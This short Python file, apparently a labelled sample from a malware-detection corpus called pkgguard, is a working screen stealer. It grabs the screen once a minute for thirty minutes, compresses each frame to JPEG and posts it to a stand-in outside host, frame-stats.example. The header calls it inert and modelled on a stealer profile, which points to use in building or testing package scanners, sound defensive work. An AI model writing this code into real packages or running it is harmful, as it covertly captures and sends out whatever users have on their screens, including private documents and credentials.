# pkgguard corpus 679 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import time

import bettercam
import requests
from PIL import Image

camera = bettercam.create(output_color="RGB")
for _ in range(30):
    frame = camera.grab()
    if frame is not None:
        buf = io.BytesIO()
        Image.fromarray(frame).save(buf, format="JPEG", quality=40)
        requests.post("https://frame-stats.example/f", data=buf.getvalue(), timeout=10)
    time.sleep(60)
